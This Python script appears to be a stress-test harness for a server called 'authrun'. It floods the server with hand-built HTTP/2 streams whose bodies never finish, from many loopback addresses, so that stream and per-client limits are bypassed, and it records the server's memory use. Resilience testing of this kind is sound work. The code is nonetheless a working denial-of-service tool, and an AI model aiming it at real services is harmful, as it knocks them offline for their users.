#!/usr/bin/env python3
"""HTTP/2 stream flood: 100 h2c connections, each bursting 200 `POST /verify` streams with an 8 KB header
and a body that never finishes, sent before the server's SETTINGS are read (so its stream limit does not
hold the client back). Each connection comes from its own address, so the per-client cap plays no part
and only the HTTP/2 limits count. Run by scripts/attack.sh.

The frames are written by hand: one header block, encoded once without the dynamic table, serves every
stream (the `h2` package needs five seconds of CPU per connection to encode the same).

Prints `name: value` lines: authrun's resident memory before, at its peak (VmHWM) and a few seconds after
the sockets close, and what the server did with the streams.
"""

import os
import selectors
import socket
import struct
import time

HOST = os.environ.get("AUTHRUN_ATTACK_HOST", "127.0.0.1")
PORT = int(os.environ["AUTHRUN_ATTACK_PORT"])
PID = int(os.environ["AUTHRUN_ATTACK_PID"])
CONNECTIONS = 100
STREAMS = 200
PADDING = 8 * 1024
AFTER_S = 5
LIMIT_S = 60

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1


def figure(name, value):
    print(f"{name}: {value}", flush=True)


def memory_kb(field):
    with open(f"/proc/{PID}/status") as f:
        for line in f:
            if line.startswith(field + ":"):
                return int(line.split()[1])
    raise SystemExit(f"no {field} in /proc/{PID}/status")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    """An HPACK integer with an N-bit prefix (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name_index, name, value):
    """A header field without indexing (RFC 7541, 6.2.2): the static table's name, or a new name."""
    out = integer(name_index, 4)
    if not name_index:
        out += integer(len(name), 7) + name
    return out + integer(len(value), 7) + value


def header_block():
    return (bytes([0x83, 0x86])  # :method POST, :scheme http (static table 3 and 6)
            + literal(1, b"", f"{HOST}:{PORT}".encode())  # :authority
            + literal(4, b"", b"/verify")  # :path
            + literal(0, b"content-type", b"application/x-www-form-urlencoded")
            + literal(0, b"content-length", b"100")
            + literal(0, b"x-padding", b"p" * PADDING))


def burst():
    block = header_block()
    out = [PREFACE, frame(SETTINGS, 0, 0)]
    for i in range(STREAMS):
        stream = 1 + 2 * i
        out.append(frame(HEADERS, END_HEADERS, stream, block))
        out.append(frame(DATA, 0, stream, b"code=12"))
    out.append(frame(PING, 0, 0, b"flooded!"))
    return b"".join(out)


class Attacker:
    """One connection: the burst, then frames read until the server answers the PING sent after it."""

    def __init__(self, index, payload):
        self.socket = socket.socket()
        self.socket.bind((f"127.0.3.{index + 1}", 0))
        self.socket.settimeout(10)
        self.socket.connect((HOST, PORT))
        self.socket.sendall(payload)
        self.socket.setblocking(False)
        self.buffer = b""
        self.pong = self.closed = False
        self.reset, self.answered = set(), set()

    def receive(self):
        try:
            data = self.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == PING and flags & ACK:
                self.pong = True
            elif kind == PING:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == RST_STREAM:
                self.reset.add(stream)
            elif kind == HEADERS:
                self.answered.add(stream)
            elif kind == GOAWAY:
                self.closed = True

    def send(self, data):
        try:
            self.socket.send(data)
        except OSError:
            pass


def main():
    before = memory_kb("VmRSS")
    payload = burst()
    started = time.monotonic()
    attackers = [Attacker(i, payload) for i in range(CONNECTIONS)]
    selector = selectors.DefaultSelector()
    for attacker in attackers:
        selector.register(attacker.socket, selectors.EVENT_READ, attacker)
    waiting = set(attackers)
    while waiting and time.monotonic() - started < LIMIT_S:
        for key, _ in selector.select(timeout=0.5):
            attacker = key.data
            attacker.receive()
            if attacker.pong or attacker.closed:
                waiting.discard(attacker)
            if attacker.closed:
                selector.unregister(attacker.socket)
    figure("h2_flood_rss_before_kb", before)
    figure("h2_flood_rss_during_kb", memory_kb("VmRSS"))
    figure("h2_flood_rss_peak_kb", memory_kb("VmHWM"))
    figure("h2_flood_connections_read_to_the_end", sum(1 for a in attackers if a.pong))
    figure("h2_flood_streams_sent", CONNECTIONS * STREAMS)
    # Refused by the stream limit (RST_STREAM), or answered at once (503, no slot left) or later.
    figure("h2_flood_streams_refused", sum(len(a.reset - a.answered) for a in attackers))
    figure("h2_flood_streams_answered", sum(len(a.answered) for a in attackers))
    figure("h2_flood_seconds_to_send", round(time.monotonic() - started, 1))
    for attacker in attackers:
        attacker.socket.close()
    time.sleep(AFTER_S)
    figure(f"h2_flood_rss_{AFTER_S}s_after_close_kb", memory_kb("VmRSS"))


if __name__ == "__main__":
    main()
